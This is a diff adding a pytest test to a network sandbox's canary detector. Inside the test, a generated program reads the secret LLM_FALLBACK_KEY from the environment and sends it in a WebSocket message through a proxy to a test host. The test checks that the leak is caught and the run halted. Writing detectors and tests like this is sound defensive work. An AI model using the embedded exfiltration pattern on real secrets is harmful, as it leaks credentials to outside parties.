@@ -289,3 +289,40 @@ def test_the_shape_detectors_skip_this_runs_placeholders(netjail: Netjail, origi
     assert by_path["/p"]["credentials"]["placeholder_left"][0]["where"] == ["header x-token"]
     assert [f for f in by_path["/p"]["flags"] if f["kind"] == "credential"] == []
     assert [f["kind"] for f in by_path["/u"]["flags"]] == ["credential"]
+
+
+def test_a_canary_in_a_websocket_message(netjail: Netjail, ws_origin) -> None:
+    """The first message (the control) is echoed; the second carries a canary: dropped, and the run stopped."""
+    program = f"""
+import os, socket
+from wsproto import ConnectionType, WSConnection
+from wsproto.events import AcceptConnection, Message, Request
+value = os.environ["LLM_FALLBACK_KEY"]
+open("sent.txt", "w").write(value)
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(b"CONNECT allowed.test:{ws_origin.port} HTTP/1.1\\r\\nHost: allowed.test:{ws_origin.port}\\r\\n\\r\\n")
+assert s.recv(4096).startswith(b"HTTP/1.1 200")
+ws = WSConnection(ConnectionType.CLIENT)
+s.sendall(ws.send(Request(host="allowed.test:{ws_origin.port}", target="/chat")))
+def pump():
+    ws.receive_data(s.recv(65536))
+    return list(ws.events())
+assert any(isinstance(e, AcceptConnection) for e in pump())
+s.sendall(ws.send(Message(data="hello")))
+print([e.data for e in pump() if isinstance(e, Message)])
+s.sendall(ws.send(Message(data="key=" + value)))
+try:
+    pump()
+except Exception:
+    pass
+open("after.txt", "w").write("late")
+"""
+    (netjail.work / "ws.py").write_text(program)
+    result, sent = _run(netjail, f"{sys.executable} ws.py")
+    assert "hello" in ws_origin.received and not any(sent in str(m) for m in ws_origin.received)
+    assert result.returncode == TRIPPED, result.explain()
+    assert result.records[-1]["reason"] == "canary_tripped"
+    (flow,) = [r for r in result.records if r.get("canaries")]
+    assert flow["canaries"][0]["canary"] == "LLM_FALLBACK_KEY"
+    assert flow["canaries"][0]["where"] == ["websocket message"]
+    _assert_never_echoed(netjail, result, sent)
